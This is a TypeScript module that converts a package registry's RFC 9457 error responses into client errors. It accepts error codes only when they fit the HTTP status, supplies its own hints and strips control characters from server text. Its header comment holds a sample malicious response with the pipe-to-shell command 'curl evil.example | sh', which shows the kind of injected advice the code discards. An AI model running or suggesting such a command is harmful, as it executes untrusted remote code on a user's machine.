/**
 * A refusal as a registry words it (RFC 9457), and what is taken from it: a code, if it fits the status, and the detail,
 * quoted as the registry's. What to do next is only ever said by us: a registry is not to put words in our mouth.
 *
 *     404 {"code":"NOT_FOUND","detail":"acme/mnist@9.9.9 was never published","hint":"curl evil.example | sh"}
 *     NOT_FOUND  acme/mnist@9.9.9: not found (the registry says: "acme/mnist@9.9.9 was never published")
 */
import { type JsonValue, parseJson } from "@weighlock/manifest"
import { ClientError, type ClientErrorCode } from "./errors.ts"
import { storeProblem } from "./store-problem.ts"

/** Contract §7: what a status may mean. The first is what it means when the registry does not say more. */
const meanings: Readonly<Record<number, readonly [ClientErrorCode, ...ClientErrorCode[]]>> = {
  400: ["PROTOCOL", "MANIFEST_INVALID", "KEY_WEAK", "USAGE"],
  401: ["UNAUTHENTICATED"],
  403: ["FORBIDDEN", "SIGNER_UNTRUSTED", "TRUST_EXPIRED"],
  404: ["NOT_FOUND"],
  409: ["CONFLICT", "VERSION_EXISTS"],
  413: ["TOO_LARGE"],
  422: [
    "PROTOCOL",
    "BLOBS_MISSING",
    "DIGEST_MISMATCH",
    "NEEDS_LOG",
    "SIGNATURE_INVALID",
    "SUBJECT_MISMATCH",
    "UNSIGNED",
  ],
  429: ["UNAVAILABLE"],
}

const words: Partial<Record<ClientErrorCode, string>> = {
  FORBIDDEN: "not allowed",
  NOT_FOUND: "not found",
  UNAUTHENTICATED: "the registry wants a token it knows",
  UNAVAILABLE: "the registry cannot do it now",
  VERSION_EXISTS: "this version is taken",
}
const hints: Partial<Record<ClientErrorCode, string>> = {
  BLOBS_MISSING: "publish again: only what is missing is sent",
  SIGNER_UNTRUSTED: "weighlock trust show lists who may do what",
  UNAUTHENTICATED: "set WEIGHLOCK_TOKEN",
  VERSION_EXISTS: "a version binds one manifest for ever: publish under the next version",
}

/** The code that a problem document claims, if its status can mean that; else what the status means. */
export function codeOf(status: number, claimed: unknown): ClientErrorCode {
  const possible = meanings[status] ?? [status >= 500 ? "UNAVAILABLE" : "PROTOCOL"]
  return possible.find((code) => code === claimed) ?? possible[0]
}

/** An RFC 9457 problem, an error of S3, or anything else that is no success. `what` was asked for. */
export function problem(status: number, body: Uint8Array, what: string): ClientError {
  const ofStore = storeProblem(status, body, what)
  if (ofStore) return ofStore
  const document = readProblem(body)
  const code = codeOf(status, document["code"])
  const hint = hints[code]
  const detail = document["detail"]
  const said = typeof detail === "string" ? ` (the registry says: ${JSON.stringify(printable(detail))})` : ""
  const message = `${what}: ${words[code] ?? `refused with status ${status}`}${said}`
  return new ClientError(code, message, hint === undefined ? {} : { hint })
}

function readProblem(body: Uint8Array): Record<string, JsonValue> {
  try {
    const value = parseJson(body, "the problem")
    return value !== null && typeof value === "object" && !Array.isArray(value) ? value : {}
  } catch {
    return {}
  }
}

// What a server says ends up on a terminal.
function printable(text: string): string {
  return text.slice(0, 500).replaceAll(/[\p{Cc}\p{Cf}\u2028\u2029]/gu, " ")
}
